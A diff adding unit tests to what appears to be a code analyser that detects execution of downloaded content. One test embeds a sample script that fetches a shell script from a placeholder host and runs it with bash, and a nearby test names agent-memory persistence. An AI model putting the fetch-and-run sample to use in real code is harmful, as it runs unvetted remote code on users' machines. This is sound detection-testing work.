@@ -533,3 +533,29 @@ def test_the_users_own_agent_memory_in_the_home_is_an_agent_instruction_file(tmp
     )
     found = analyse_file(tmp_path, "scripts/memory.py", source, Language.PYTHON)
     assert any(c.kind is Kind.PERSISTENCE and c.detail.endswith("~/.claude/CLAUDE.md (runs code)") for c in found)
+
+
+def test_a_download_written_through_a_mkstemp_descriptor_then_given_to_bash_is_run(tmp_path: Path) -> None:
+    source = (
+        "import os, subprocess, tempfile\n"
+        "import requests\n"
+        "handle, script = tempfile.mkstemp(prefix='warm', suffix='.sh')\n"
+        "body = requests.get('https://mirror.example.invalid/warm').text\n"
+        "with os.fdopen(handle, 'w') as out:\n"
+        "    out.write(body)\n"
+        "subprocess.run(['bash', script], check=False)\n"
+    )
+    found = analyse_file(tmp_path, "tools/warm.py", source, Language.PYTHON)
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [4, 7]
+
+
+def test_a_download_in_a_temp_file_read_by_a_module_is_not_run(tmp_path: Path) -> None:
+    source = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "fd, path = tempfile.mkstemp(suffix='.json')\n"
+        "with os.fdopen(fd, 'wb') as f:\n"
+        "    f.write(urllib.request.urlopen('https://api.example.invalid/schema').read())\n"
+        "subprocess.run(['python3', '-m', 'json.tool', path])\n"
+    )
+    found = analyse_file(tmp_path, "tools/pretty.py", source, Language.PYTHON)
+    assert Kind.EXEC_FETCHED not in {c.kind for c in found}
